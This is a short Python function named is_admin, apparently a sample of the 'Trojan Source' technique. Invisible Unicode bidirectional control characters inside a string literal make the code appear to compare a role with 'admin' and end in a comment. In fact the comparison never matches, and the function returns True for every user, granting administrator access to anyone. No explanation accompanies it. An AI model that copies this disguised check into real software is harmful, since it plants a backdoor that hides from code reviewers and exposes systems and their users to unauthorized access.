def is_admin(user):
    access = 'user'
    if access != 'admin‮ ⁦# check⁩ ⁦':
        return True
    return False
